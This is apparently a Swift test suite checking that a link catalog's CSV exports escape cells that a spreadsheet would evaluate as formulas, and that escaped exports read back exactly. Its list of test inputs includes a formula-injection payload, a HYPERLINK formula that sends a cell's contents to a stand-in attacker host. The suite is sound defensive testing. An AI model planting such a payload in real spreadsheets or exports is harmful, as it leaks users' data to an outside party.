import ByteText
import LinkStore
import TestSupport
import Testing

@testable import LinkCatalog

/// Names, notes and tags that a spreadsheet would evaluate as formulas.
@Suite("formulas in exported tables")
struct EscapedFormulaTests {
    private static let formulas = [
        "=1+1", "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "+1", "-2", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
        " =1",
        "'=1", "''=1", "' =1", "\u{FF1D}1", "\u{FF0B}1", "\u{FF0D}1", "\u{FF20}1", "=", "'-",
    ]
    private static let plain = ["", "a=b", "1-2", "'", "'a", "''", "\"=1", "ann@example.com", "\u{FF1C}1", " a", "#=1"]

    @Test("a cell that begins as a formula is escaped, and only such a cell; each is read back as it was")
    func cells() {
        for cell in Self.formulas {
            #expect(SpreadsheetFormula.escaped(cell) == "'" + cell, "\(cell)")
            #expect(Self.isEscaped("'\(cell)"), "\(cell)")
        }
        for cell in Self.plain {
            #expect(SpreadsheetFormula.escaped(cell) == cell, "\(cell)")
            #expect(!Self.isEscaped(cell), "\(cell)")
        }
    }

    private static func isEscaped(_ cell: String) -> Bool { SpreadsheetFormula.isEscaped(cell.utf8.span) }

    private static func begins(_ cell: String) -> Bool { SpreadsheetFormula.begins(cell.utf8.span) }

    /// A link for each text, as its name, its note and its tag where valid.
    private static var records: [LinkRecord] {
        (formulas + plain).enumerated().map { index, text in
            var record = LinkRecord(
                key: LinkKey("a.link/c\(index)")!, longLink: "https://www.example.com/", created: 1_700_000_000)
            record.note = text
            if !text.contains(where: \.isNewline), !text.contains("\t") {
                record.name = text
                if !text.isEmpty { record.tags = [text] }
            }
            return record
        }
    }

    private static func write(_ format: LinkFileFormat, escapesFormulas: Bool) -> String {
        var writer = LinkFileWriter(format, escapesFormulas: escapesFormulas)
        var output: [UInt8] = []
        writer.begin(&output)
        for record in records { writer.append(record, to: &output) }
        return String(decoding: output, as: UTF8.self)
    }

    private static func rows(_ text: String) throws -> [[String]] {
        let bytes = Array(text.utf8)
        var (record, start, rows) = (CSVRecord(), 0, [[String]]())
        while start < bytes.count, let end = try record.read(bytes.span, from: start, isLast: true) {
            rows.append((0..<record.count).map(record.string))
            start = end
        }
        return rows
    }

    @Test("no cell of an escaped table begins as a formula", arguments: [LinkFileFormat.csv, .takeout])
    func tables(format: LinkFileFormat) throws {
        let rows = try Self.rows(Self.write(format, escapesFormulas: true))
        #expect(rows.count == Self.records.count + 1)
        for cell in rows.joined() {
            #expect(!Self.begins(cell) || cell.hasPrefix("'"), "\(cell)")
        }
    }

    @Test("an export is read back exactly, escaped or not", arguments: [false, true])
    func roundTrip(escapesFormulas: Bool) throws {
        let text = Self.write(.csv, escapesFormulas: escapesFormulas)
        #expect(text.contains("escaped_formulas") == escapesFormulas)
        let reading = try LinkFileTests.read(text)
        #expect(reading.refused == [])
        #expect(reading.records.map(\.note) == Self.records.map(\.note))
        #expect(reading.records.map(\.name) == Self.records.map(\.name))
        #expect(reading.records.map(\.tags) == Self.records.map(\.tags))
        let lines = try CreationLines(Array(text.utf8).span)
        let notes = lines.bytes.split(separator: 0x0A).map { try? JSONValue(parsing: Array($0).span)["note"]?.string }
        #expect(notes.map { $0 ?? "" } == Self.records.map(\.note))
    }

    @Test("the mark is that of a row: rows of another table keep their apostrophes")
    func marks() throws {
        let reading = try LinkFileTests.read(
            """
            link,long_link,note,escaped_formulas
            https://a.link/a,https://www.example.com/,'=1,true
            https://a.link/b,https://www.example.com/,'=1,
            https://a.link/c,https://www.example.com/,'=1,no
            https://a.link/d,https://www.example.com/,'=1,perhaps

            """)
        #expect(reading.records.map(\.note) == ["=1", "'=1", "'=1"])
        #expect(reading.refused == ["5: escaped_formulas must be true or false, not perhaps"])
    }
}
